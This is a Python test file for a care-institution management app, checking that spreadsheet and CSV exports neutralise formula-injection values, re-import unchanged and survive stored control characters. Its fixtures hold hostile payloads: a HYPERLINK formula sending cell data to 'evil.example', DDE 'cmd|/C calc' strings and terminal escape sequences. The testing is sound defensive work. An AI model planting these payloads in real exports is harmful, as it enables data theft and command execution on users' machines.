"""Exports a spreadsheet opens without evaluating anything, that never fail on stored text,
and that re-import into a fresh database to the same values (docs/data-rules.md)."""

import csv
import re
from pathlib import Path

import openpyxl
import pytest
from sqlalchemy import update

from mzdesk.core.vocab import InstitutionKind
from mzdesk.services.institutions import InstitutionData, create_institution
from mzdesk.services.tables.cells import escape_formula, unescape_formula
from mzdesk.services.tables.columns import Kind
from mzdesk.services.tables.importers.base import ImportRejected
from mzdesk.services.tables.importing import import_file
from mzdesk.services.tables.writing import _rows, export_table
from mzdesk.store.engine import Store, open_store
from mzdesk.store.models import CareWorker, Hazard, Institution
from tests.helpers.actors import SETUP
from tests.helpers.people import id_number
from tests.services.tables.test_import import xlsx


def text_xlsx(path: Path, rows: list[list[object]]) -> Path:
    """A roster typed in Excel with every text cell formatted as text (openpyxl would turn a
    text starting with = into a formula with no value)."""
    book = openpyxl.Workbook()
    sheet = book.active
    for r, row in enumerate(rows, start=1):
        for c, value in enumerate(row, start=1):
            cell = sheet.cell(row=r, column=c)
            cell.value = value
            if isinstance(value, str):
                cell.data_type = "s"
    book.save(path)
    return path


HOME = '=HYPERLINK("http://evil.example/?d="&A1,"点我")'
OTHER = "'=已经带着引号的名字"
RESIDENT = "=cmd|' /C calc'!A0"
WORKER = "@SUM(1+1)*cmd|' /C calc'!A0"

# The first character of a cell a spreadsheet evaluates (after a tab or CR it is the next).
EVALUATED = ("=", "+", "-", "@", "\t", "\r")
INERT = re.compile(r"[+-]?\d+|-+")  # a plain number or dashes: nothing to evaluate


def _import(store: Store, kind: Kind, path: Path) -> None:
    try:
        import_file(store, SETUP, kind, path)
    except ImportRejected as rejected:
        raise AssertionError([str(p) for p in rejected.report.problems]) from None


@pytest.fixture
def hostile(store, tmp_path, request) -> Store:
    """A database whose text holds everything a spreadsheet would evaluate, entered the
    ordinary way (these characters are allowed: only how they are exported matters); with
    ``line_breaks`` false, its multi-line fields hold none."""
    breaks = getattr(request, "param", True)
    br = "\n" if breaks else " "
    worker_id = id_number()
    files = {
        Kind.INSTITUTIONS: [
            ["机构名称", "机构类型", "地址", "联系电话", "法定代表人", "消防安全责任人"],
            [HOME, "养老机构", "@地址", "+86 10 8888 6666", "-2+3+cmd|' /C calc'!A0", "-"],
            ["市儿童福利院", "儿童福利机构", "''@两个引号", None, "+1", "-5"],
        ],
        Kind.BEDS: [
            ["机构名称", "楼栋", "楼层", "房间", "床位号", "床位类型"],
            [HOME, "=1+1", "-1", "+101", "@1", "护理型"],
            [HOME, "=1+1", "-1", "+101", "@2", "护理型"],
        ],
        Kind.RESIDENTS: [
            [
                *("机构名称", "姓名", "身份证号", "入住日期", "床位号", "联系人", "联系电话"),
                *("户籍地址", "疾病诊断", "备注"),
            ],
            [
                *(HOME, RESIDENT, id_number(), "2025-01-02", "=1+1 -1 +101-@1", "-张"),
                *("+8613800000000", "@北京", f"+高血压{br}-糖尿病", f"第一行{br}=第二行\t完"),
            ],
        ],
        Kind.WORKERS: [
            ["机构名称", "姓名", "身份证号", "岗位", "入职日期", "联系电话"],
            [HOME, WORKER, worker_id, "养老护理员", "2024-03-01", "-(010) 8888 6666"],
        ],
        Kind.HAZARDS: [
            ["机构名称", "发现日期", "隐患描述", "隐患等级", "整改措施", "责任人", "整改期限"],
            [HOME, "2025-01-02", f"=1+2{br}第二行", "一般隐患", "@整改", "-李", "2025-02-01"],
        ],
    }
    for kind, rows in files.items():
        _import(store, kind, text_xlsx(tmp_path / f"in-{kind.value}.xlsx", rows))
    # a name that already starts with the quote an export adds (no import can enter it: the
    # import takes that quote off)
    create_institution(store, SETUP, InstitutionData(OTHER, InstitutionKind.CHILDREN_HOME))
    return store


KINDS = (Kind.INSTITUTIONS, Kind.BEDS, Kind.RESIDENTS, Kind.WORKERS, Kind.HAZARDS)


def _values(store: Store, kind: Kind) -> list[list[object]]:
    return [list(row) for row in _rows(store, kind)]


@pytest.mark.parametrize(
    ("suffix", "hostile"),
    [
        (".xlsx", True),
        (".csv", False),
        (".csv", True),
    ],
    indirect=["hostile"],
    ids=["xlsx", "csv-one-line", "csv-line-breaks"],
)
def test_hostile_values_survive_export_and_reimport_into_a_fresh_database(
    hostile, tmp_path, suffix
):
    fresh = open_store(tmp_path / f"fresh{suffix}.db")
    try:
        for kind in KINDS:
            out = tmp_path / f"{kind.value}{suffix}"
            export_table(hostile, kind, out)
            _import(fresh, kind, out)
        for kind in KINDS:
            assert _values(fresh, kind) == _values(hostile, kind), kind
        names = [row[0] for row in _values(fresh, Kind.INSTITUTIONS)]
        assert sorted(names) == sorted([HOME, OTHER, "市儿童福利院"])
    finally:
        fresh.close()


def test_the_xlsx_export_holds_no_formula(hostile, tmp_path):
    for kind in KINDS:
        out = tmp_path / f"{kind.value}.xlsx"
        export_table(hostile, kind, out)
        sheet = openpyxl.load_workbook(out).active
        for row in sheet.iter_rows(min_row=2):
            for cell in row:
                assert cell.data_type != "f", (kind, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s"
                    assert not cell.value.startswith(EVALUATED) or INERT.fullmatch(cell.value)


def test_the_csv_export_starts_no_field_with_what_a_spreadsheet_evaluates(hostile, tmp_path):
    seen = []
    for kind in KINDS:
        out = tmp_path / f"{kind.value}.csv"
        export_table(hostile, kind, out)
        with out.open(encoding="utf-8-sig", newline="") as handle:
            for row in list(csv.reader(handle))[1:]:
                seen.extend(row)
                for field in row:
                    assert not field.startswith(EVALUATED) or INERT.fullmatch(field), field
    assert "'" + RESIDENT in seen and "'" + WORKER in seen and "''=已经带着引号的名字" in seen
    assert "-" in seen and "-1" in seen  # a dash and a plain number stay as they are


@pytest.mark.parametrize(
    "value",
    [
        *("=1", "+1", "-1", "-", "--", "@x", "\tx", "\rx", "'=x", "''+x", "'", "'x", "x=1"),
        *("", "-1.5", "+86 138", "=", "'-", "-+1", ".5", "-.5"),
    ],
)
def test_escaping_is_undone_exactly(value):
    assert unescape_formula(escape_formula(value)) == value
    assert unescape_formula(value) == value or escape_formula(unescape_formula(value)) == value


def test_stored_control_characters_never_break_an_export(store, home, tmp_path):
    """Rows written before the rule, or forged on another device and applied by sync, may hold
    anything: the export replaces what the rule refuses with U+FFFD instead of failing."""
    _import(
        store,
        Kind.WORKERS,
        xlsx(
            tmp_path / "w.xlsx",
            [
                ["机构名称", "姓名", "身份证号", "岗位", "入职日期"],
                [home.name, "李四", id_number(), "养老护理员", "2024-03-01"],
            ],
        ),
    )
    with store.write(SETUP) as session:  # straight into the tables, as a forged row arrives
        session.execute(
            update(Institution).values(name="幸福\x1b[2J\x07院\u202e", address="地址\x00")
        )
        session.execute(update(CareWorker).values(name="=李\x1b]0;x\x07四"))
    for suffix in (".xlsx", ".csv"):
        out = tmp_path / f"institutions{suffix}"
        assert export_table(store, Kind.INSTITUTIONS, out) == 1
        workers = tmp_path / f"workers{suffix}"
        assert export_table(store, Kind.WORKERS, workers) == 1
        if suffix == ".xlsx":
            first = openpyxl.load_workbook(out).active[2]
            worker = openpyxl.load_workbook(workers).active[2]
            name, address, worker_name = first[0].value, first[7].value, worker[1].value
        else:
            with out.open(encoding="utf-8-sig", newline="") as handle:
                row = list(csv.reader(handle))[1]
            with workers.open(encoding="utf-8-sig", newline="") as handle:
                worker_row = list(csv.reader(handle))[1]
            name, address, worker_name = row[0], row[7], worker_row[1]
        assert name == "幸福\ufffd[2J\ufffd院\ufffd"
        assert address == "地址\ufffd"
        assert worker_name == "'=李\ufffd]0;x\ufffd四"


def test_a_forged_hazard_exports_too(store, home, tmp_path):
    _import(
        store,
        Kind.HAZARDS,
        xlsx(
            tmp_path / "h.xlsx",
            [
                ["机构名称", "发现日期", "隐患描述", "隐患等级", "整改期限"],
                [home.name, "2025-01-02", "电线老化", "一般隐患", "2025-02-01"],
            ],
        ),
    )
    with store.write(SETUP) as session:
        session.execute(update(Hazard).values(description="=电线\r\n老化\x1b[2J"))
    out = tmp_path / "h.xlsx"
    export_table(store, Kind.HAZARDS, out)
    assert openpyxl.load_workbook(out).active["C2"].value == "'=电线\n老化\ufffd[2J"
